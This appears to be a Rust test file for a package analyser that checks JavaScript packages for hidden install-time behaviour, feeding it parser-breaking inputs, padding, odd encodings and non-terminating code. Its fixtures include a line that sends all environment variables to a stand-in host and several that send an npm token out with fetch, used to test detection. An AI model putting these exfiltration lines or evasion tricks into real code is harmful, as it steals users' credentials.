//! Inputs that are built to break parsers (CRATES section 1).

use std::time::{Duration, Instant};

use weir_model::contents::Surface;

use super::{installed, run};
use crate::{Facts, Limits, Package, SourceFile, analyse};

const PAYLOAD: &str = "fetch('https://collector.invalid', { body: JSON.stringify(process.env) });";

fn is_suspicious(facts: &Facts) -> bool {
    facts.unread.iter().any(|one| one.suspicious)
}

#[test]
fn deep_nesting_of_every_kind_ends() {
    let n = 10_000;
    let shapes = [
        ("paren", format!("{}1{}", "(".repeat(n), ")".repeat(n))),
        ("array", format!("{}{}", "[".repeat(n), "]".repeat(n))),
        ("object", format!("x={}1{}", "{a:".repeat(n), "}".repeat(n))),
        ("block", format!("{}{}", "{".repeat(n), "}".repeat(n))),
        ("unary", format!("{}1", "!".repeat(n))),
        (
            "function",
            format!("{}{}", "function f(){".repeat(n), "}".repeat(n)),
        ),
        ("arrow", format!("{}1", "x=>".repeat(n))),
        ("ternary", format!("{}c", "a?b:".repeat(n))),
        (
            "template",
            format!("{}1{}", "`${".repeat(n), "}`".repeat(n)),
        ),
        ("else", format!("{}c", "if(a)b;else ".repeat(n))),
        ("regex", format!("/{}{}/", "(".repeat(n), ")".repeat(n))),
        ("assign", format!("{}1", "a=".repeat(n))),
        ("new", format!("{}a", "new ".repeat(n))),
        ("unclosed", "(".repeat(n)),
        ("async", format!("{}1{}", "async(".repeat(n), ")".repeat(n))),
        (
            "async arrow",
            format!("{}1{}", "async(a=".repeat(n), ")=>1".repeat(n)),
        ),
        (
            "conditional arrow",
            format!("{}1{}", "a?(b=".repeat(n), "):c=>d".repeat(n)),
        ),
        ("unclosed arrow", "(a=".repeat(n)),
        (
            "pattern",
            format!("{}1{}", "({a:".repeat(n), "})".repeat(n)),
        ),
        ("less", format!("{}b", "a<".repeat(n))),
        (
            "class",
            format!("{}B{}", "class A extends ".repeat(n), "{}".repeat(n)),
        ),
        ("jsx", format!("{}{}", "<a>".repeat(n), "</a>".repeat(n))),
        ("tagged", format!("{}1{}", "a`${".repeat(n), "}`".repeat(n))),
        ("for", format!("{};", "for(;;)".repeat(n))),
        (
            "label",
            (0..n).map(|i| format!("a{i}:")).collect::<String>() + ";",
        ),
        ("await", format!("{}a", "await ".repeat(n))),
        ("power", format!("{}a", "a**".repeat(n))),
        (
            "nullish",
            format!("{}1{}", "a=b??(".repeat(n), ")".repeat(n)),
        ),
        ("yield", format!("function*g(){{{}1}}", "yield ".repeat(n))),
        ("do", "do ".repeat(n)),
    ];
    for (name, code) in shapes {
        let start = Instant::now();
        let facts = installed(&[("index.js", &code)]);
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "{name} took {:?}",
            start.elapsed()
        );
        assert!(facts.flows.is_empty(), "{name}");
    }
}

#[test]
fn very_deep_nesting_without_brackets_is_refused_and_said() {
    for shape in [
        "!",
        "x=>",
        "a=",
        "a?b:",
        "new ",
        "if(a)b;else ",
        "for(;;)",
        "await ",
        "<a>",
    ] {
        let code = shape.repeat(1_000_000) + "1";
        let facts = installed(&[("index.js", &code)]);
        assert!(is_suspicious(&facts), "{shape}");
    }
}

#[test]
fn deep_brackets_are_suspicious_and_words_are_still_found() {
    let code = format!("{}{}", PAYLOAD, "[".repeat(600) + &"]".repeat(600));
    let facts = installed(&[("index.js", &code)]);
    assert!(is_suspicious(&facts));
    assert!(
        facts.unread[0].why.contains("process.env"),
        "{:?}",
        facts.unread
    );
}

#[test]
fn long_left_chains_end() {
    for (first, link) in [
        ("1", "+1"),
        ("x='a'", "+'a'"),
        ("a", ".a"),
        ("a", "()"),
        ("1", ",1"),
        ("a", "[0]"),
        ("a", "||a"),
        ("a", "*a"),
    ] {
        for count in [100_000, 1_000_000] {
            let code = format!("{PAYLOAD}\n{first}{}", link.repeat(count));
            let facts = installed(&[("index.js", &code)]);
            assert!(
                !facts.flows.is_empty() || is_suspicious(&facts),
                "{link} {count}: {facts:?}"
            );
        }
    }
}

#[test]
fn cubic_shapes_are_cut() {
    for (open, close) in [("a?(b=", "):c=>d"), ("(a=", "")] {
        for count in [400, 2_000, 20_000] {
            let code = format!("{}1{}", open.repeat(count), close.repeat(count));
            let start = Instant::now();
            installed(&[("index.js", &code)]);
            assert!(
                start.elapsed() < Duration::from_secs(5),
                "{open} {count} {:?}",
                start.elapsed()
            );
        }
    }
}

#[test]
fn a_huge_line_is_scanned() {
    let code = format!("var x = '{}';{PAYLOAD}", "a".repeat(20 << 20));
    let facts = installed(&[("index.js", &code)]);
    assert!(
        facts.unread[0].why.contains("process.env"),
        "{:?}",
        facts.unread
    );
    // Padding a payload beyond the limit does not make it harmless where install reaches it.
    assert_eq!(facts.unread.len(), 1);
    assert!(facts.unread[0].suspicious);
    // Nor where whoever imports the package runs it; what nothing runs is only told.
    for (entry, runs) in [("./index.js", true), ("./other.js", false)] {
        let facts = run(
            &[("index.js", &code), ("other.js", "")],
            &[],
            &[(Surface::Import, entry)],
        );
        assert_eq!(facts.unread.len(), 1);
        assert_eq!(facts.unread[0].suspicious, runs, "{entry}");
    }
}

#[test]
fn tokens_that_empty_the_tree_do_not_hide_a_file() {
    for token in [
        "if (0) f() = 1;",
        "if (0) ++f();",
        "for (f() of x);",
        "\nlet\n",
        "let`x`;",
        "let \n delete x;",
        "if (0) f()++;",
    ] {
        for code in [format!("{PAYLOAD}\n{token}"), format!("{token}\n{PAYLOAD}")] {
            let facts = installed(&[("index.js", &code)]);
            assert!(!facts.flows.is_empty(), "{token}: {:?}", facts.unread);
        }
    }
}

#[test]
fn code_that_does_not_parse_is_said() {
    let code = format!("{PAYLOAD} @@@ ( ]");
    let facts = installed(&[("index.js", &code)]);
    assert!(is_suspicious(&facts));
    assert!(
        facts.unread[0].why.contains("process.env"),
        "{:?}",
        facts.unread
    );
    let facts = run(&[("template.js", "<% x %> @@")], &[], &[]);
    assert!(!facts.unread.is_empty() && !is_suspicious(&facts));
}

#[test]
fn programs_named_like_scripts_are_suspicious() {
    for bytes in [
        &b"\x7fELF\x02\x01\x01\0\0\0"[..],
        b"MZ\x90\0\x03",
        &[0_u8; 4096],
        &[0xfe_u8; 4096],
    ] {
        let files = [SourceFile {
            path: "x.js",
            bytes,
        }];
        let package = Package {
            files: &files,
            ..Package::default()
        };
        assert!(is_suspicious(&analyse(&package, &Limits::default())));
    }
}

#[test]
fn odd_but_valid_text_parses() {
    for code in [
        "\u{feff}fetch(process.env.NPM_TOKEN)",
        "#!/usr/bin/env node\nfetch(process.env.NPM_TOKEN)",
        "return fetch(process.env.NPM_TOKEN)",
        "const x = <a b={fetch(process.env.NPM_TOKEN)}/>;",
        "let x: string = fetch(process.env.NPM_TOKEN);",
        "await fetch(process.env.NPM_TOKEN)",
        "with (a) fetch(process.env.NPM_TOKEN)",
        "<!-- html\nfetch(process.env.NPM_TOKEN)",
        "x\n--> html\nfetch(process.env.NPM_TOKEN)",
        "var o = 0755 + 09; fetch(process.env.NPM_TOKEN)",
        "var o = '\\07'; fetch(process.env.NPM_TOKEN)",
        "var yield, await, static; fetch(process.env.NPM_TOKEN)",
        "#!/usr/bin/env node\r\n\u{feff}fetch(process.env.NPM_TOKEN)",
        "var f\\u0065tch2 = f\\u0065tch; fetch2(process.env.NPM_TOKEN)",
    ] {
        let facts = installed(&[("index.js", code)]);
        assert_eq!(facts.flows.len(), 1, "{code}: {facts:?}");
    }
}

#[test]
fn bytes_of_several_encodings_and_the_wrong_goal_hide_nothing() {
    let payload = b"fetch(process.env.NPM_TOKEN)";
    // Latin-1 inside of a text, a broken sequence in a comment, a script by the name of a module.
    for (path, before) in [
        ("index.js", &b"var t = 'caf\xe9';\n"[..]),
        ("index.js", &b"// \xc3\x28 \xf0\x9f\n"[..]),
        ("index.mjs", &b"\xef\xbb\xbf#!/usr/bin/env node\n"[..]),
        ("index.mjs", &b"with ({}) {}\nvar o = 010;\n"[..]),
        ("index.cjs", &b"import 'fs';\n"[..]),
    ] {
        let bytes = [before, payload].concat();
        let files = [SourceFile {
            path,
            bytes: &bytes,
        }];
        let package = Package {
            files: &files,
            install_commands: vec![("install".to_owned(), format!("node {path}"))],
            ..Package::default()
        };
        let facts = analyse(&package, &Limits::default());
        assert_eq!(facts.flows.len(), 1, "{path} {before:?}: {facts:?}");
    }
}

#[test]
fn a_million_cases_are_read() {
    let cases = "case 7:".repeat(1_000_000);
    let code = format!("switch (x) {{{cases}}}\nrequire('child_process').exec('true');");
    let facts = run(
        &[("index.js", &code)],
        &[],
        &[(Surface::Import, "./index.js")],
    );
    let is_process = |kind| kind == weir_model::contents::CapabilityKind::Process;
    assert!(
        facts.capabilities.iter().any(|one| is_process(one.kind)),
        "{:?}",
        facts.unread
    );
}

#[test]
fn budgets_are_said() {
    let files = [
        SourceFile {
            path: "a.js",
            bytes: b"let a = 1;",
        },
        SourceFile {
            path: "b.js",
            bytes: b"let b = 1;",
        },
    ];
    let package = Package {
        files: &files,
        ..Package::default()
    };
    let facts = analyse(
        &package,
        &Limits {
            total_bytes: 12,
            ..Limits::default()
        },
    );
    assert_eq!(facts.unread.len(), 1);
}

#[test]
fn loops_of_modules_and_values_end() {
    let facts = installed(&[
        (
            "index.js",
            "const b = require('./b'); let s = ''; for (;;) { s += s + 'x'; s = b.f(s); exports.f = b.f; } var o = {}; o.o = o; o[s] = [o, ...o]; fetch(o);",
        ),
        (
            "b.js",
            "const a = require('./index'); exports.f = function f(x) { return a.f(f(x + 'y')) || new f(f).f; }; class A extends A {}",
        ),
    ]);
    assert!(facts.flows.is_empty());
}

/// Programs that abuse the interpreter of constants: it has to end, soon and without a value.
#[test]
fn decoders_without_an_end_are_left() {
    for code in [
        "function d(x) { while (true) { x += 1; } } require(d(1));",
        "function d(x) { return d(x + 1); } require(d(1));",
        "function d(x) { let s = 'ab'; for (;;) s += s; } require(d(1));",
        "function d(x) { let a = []; for (;;) a = [a]; } require(d(1));",
        "function d(x) { let a = x; for (;;) { const b = a; a = () => b; } } require(d(1));",
        "function d(x) { const a = []; a.push(a); return a.join(''); } require(d(1));",
        "function d(x) { return 'a'.repeat(1e9); } require(d(1));",
        "function d(x) { return Array(4e9).fill(0).join('x'); } require(d(1));",
        "function d(x) { const a = []; a[4294967294] = 1; return a.length; } require(d(1));",
        "require('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.replace(/a*a*a*a*a*a*a*a*a*a*a*b/g, ''));",
        "const l = ['a']; (function (a) { while (true) { a.push(a.shift()); } })(l); const d = i => l[i]; require(d(0));",
        "let s = ''; for (;;) { s += 'x'; } require(s);",
        "eval('eval(' + JSON.stringify('1'.repeat(100)) + ')');",
    ] {
        let start = std::time::Instant::now();
        let facts = installed(&[("index.js", code)]);
        assert!(start.elapsed().as_secs() < 20, "{code}");
        assert!(facts.flows.is_empty(), "{code}");
    }
}

/// Calls that spread unknown lists into many functions: each makes a rule for each parameter of each function, and
/// nothing travels.
#[test]
fn rules_that_make_rules_end() {
    let names: Vec<String> = (0..40).map(|at| format!("p{at}")).collect();
    let functions: String = (0..40)
        .map(|at| format!("v = function f{at}({}) {{}};", names.join(",")))
        .collect();
    let calls = "v(...[b]);".repeat(4_000);
    let code = format!("let v; {functions} {calls} {PAYLOAD}");
    let start = Instant::now();
    let facts = installed(&[("index.js", &code)]);
    let told = |one: &weir_model::contents::Unread| one.why == crate::follow::OVERGROWN;
    assert!(facts.unread.iter().any(told), "{:?}", facts.unread);
    assert!(start.elapsed() < Duration::from_secs(60));
}
